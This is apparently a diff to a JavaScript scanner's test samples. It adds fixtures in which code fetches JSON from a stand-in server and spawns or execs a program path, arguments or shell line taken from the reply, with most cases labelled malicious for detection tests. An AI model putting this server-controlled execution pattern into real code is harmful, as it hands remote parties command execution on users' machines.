@@ -20,6 +20,29 @@ const MODULES = Array.from({ length: 13_000 }, (_, i) => {
   return `export const d${i} = (s) => s.${member}.${member}_of;\n`;
 }).join('');
 
+/** A program whose folder is called as a server says, and started as `start` says. */
+const ofVersion = (
+  join: string,
+  start: string,
+): string => `const { spawn, exec } = require('child_process'), path = require('path'), os = require('os');
+const file = process.platform === 'win32' ? 'own.exe' : 'own';
+const folder = (version) => path.join(os.homedir(), '.own', version);
+const program = (version) => ${join};
+async function newest() {
+  const answer = await fetch('https://a.weir.test/newest');
+  return answer.json();
+}
+async function find() {
+  const { version } = await newest();
+  return program(version);
+}
+(async () => {
+  const path = await find();
+  const { args } = await newest();
+  ${start};
+})();
+`;
+
 /** What servers say, run by JavaScript that somebody calls or that gives it to an interpreter. */
 export const REMOTE: Samples = {
   malicious: [
@@ -83,8 +106,38 @@ export const REMOTE: Samples = {
       ),
       expected: [at('remote-command', 'high', 5, 'setup.js')],
     },
+    ...(
+      [
+        ['a file that a server names', 'path.join(os.homedir(), version)', 'spawn(path, exports.args)'],
+        ['a path that a server begins', "path.join(version, 'own')", 'spawn(path, exports.args)'],
+        [
+          'a path that a server begins behind nothing',
+          "path.join('/', version, 'own')",
+          'spawn(path, exports.args)',
+        ],
+        [
+          'a program that a server also tells what to do',
+          'path.join(folder(version), file)',
+          'spawn(path, args)',
+        ],
+        ['a line of a shell with what a server says in it', 'path.join(folder(version), file)', 'exec(path)'],
+        [
+          'the same for a shell that options ask for',
+          'path.join(folder(version), file)',
+          'spawn(path, exports.args, { shell: true })',
+        ],
+      ] as const
+    ).map(([name, join, start]) => ({
+      name,
+      files: imported(ofVersion(join, start)),
+      expected: [at('remote-command', 'high', 16)],
+    })),
   ],
   benign: [
+    quiet(
+      'a program of the version that a server names, by its own name in a folder of its own',
+      imported(ofVersion('path.join(folder(version), file)', 'spawn(path, exports.args)')),
+    ),
     quiet(
       'one file fetches, one runs, and what is run is of another one',
       imported(
